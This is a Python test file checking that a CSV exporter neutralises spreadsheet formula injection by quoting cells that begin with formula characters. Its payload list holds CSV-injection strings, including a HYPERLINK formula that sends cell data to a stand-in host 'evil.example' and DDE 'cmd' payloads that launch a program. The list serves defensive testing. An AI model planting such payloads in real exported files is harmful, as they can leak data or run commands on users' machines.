"""No cell of a stranger's becomes a formula, and an honest table reads as it was."""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lantern.engine import spreadsheet
from lantern.engine.spreadsheet import harmless, is_formula, write_csv

HEADS = "=+-@|%\t\r\n\x0b\x0c\x00＝＋－＠﹢﹣﹦﹫⁺₊⁼₌−｜％"
SILENT = " \u00a0\u3000\ufeff\u200b\u200d\u2060\u202e\x01\x7f"
VECTORS = [
    *(
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1)',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1",
        "\r=1",
    ),
    *("\n=1", " =1", "\ufeff=1", "\u200b=1", "＝1", "＋1", "－1", "＠SUM(1)", "\u3000＝1", "-2+3+cmd|' /C calc'!A0"),
    *('=IMPORTXML("http://evil.example")', '=WEBSERVICE("http://evil.example")', "%0A=1", "|calc", "\x00=1", "﹦1"),
]
hostile = st.builds(
    lambda silent, head, rest: silent + head + rest,
    st.text(st.sampled_from(SILENT), max_size=3),
    st.sampled_from(HEADS),
    st.text(max_size=20),
)
anything = st.text(st.characters(exclude_categories=["Cs"]), max_size=30)


def written(*rows: list[spreadsheet.Cell]) -> tuple[str, list[list[str]]]:
    """What is written, and what a reader makes of it below the header."""
    out = io.StringIO(newline="")
    write_csv(out, [f"c{place}" for place in range(len(rows[0]))], rows)
    return out.getvalue(), list(csv.reader(io.StringIO(out.getvalue().replace("\0", ""), newline="")))[1:]


def acts(cell: str) -> bool:
    """An independent judge: whether what shows first, narrow or wide, is one of the four signs, or a break comes
    first.
    """
    bare = unicodedata.normalize("NFKC", cell)
    shown = bare.lstrip("".join(c for c in bare if unicodedata.category(c)[0] in "ZC"))
    return shown[:1] in ("=", "+", "-", "@", "−") if shown else False


@pytest.mark.parametrize("vector", VECTORS)
def test_a_known_formula_is_written_as_text(vector: str) -> None:
    assert is_formula(vector)
    _, ((cell, after),) = written([vector, "next"])
    assert cell.startswith("'") and after == "next"


@settings(max_examples=300)
@given(st.lists(st.one_of(hostile, anything), min_size=1, max_size=5))
def test_no_cell_acts_and_honest_ones_read_as_they_were(cells: list[str]) -> None:
    _check(cells)


@pytest.mark.slow
@settings(max_examples=3000)
@given(st.lists(st.one_of(hostile, anything), min_size=1, max_size=5))
def test_no_cell_acts_in_three_thousand_tables(cells: list[str]) -> None:
    _check(cells)


def _check(cells: list[str]) -> None:
    _, (read,) = written(list(cells))
    assert len(read) == len(cells)
    for cell, back in zip(cells, read, strict=True):
        assert not acts(back)
        assert back in (cell.replace("\0", ""), "'" + cell.replace("\0", ""))


def test_control_with_the_guard_off_the_judge_sees_formulas(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheet, "harmless", lambda text: text)
    assert sum(acts(written([vector])[1][0][0]) for vector in VECTORS if "\0" not in vector) > 15


def test_numbers_dates_and_gaps_stay_what_they_are_and_every_cell_is_quoted() -> None:
    text, rows = written([-5, Decimal("-1.50"), date(2026, 11, 26), None, 'a;=1,"b"\nc', 1.5])
    assert rows == [["-5", "-1.50", "2026-11-26", "", 'a;=1,"b"\nc', "1.5"]]
    assert text.startswith('"c0","c1"') and text.endswith("\r\n")
    assert harmless("plain") == "plain"
    with pytest.raises(ValueError, match="a row of 1 cells"):
        write_csv(io.StringIO(), ["a", "b"], [["x"]])
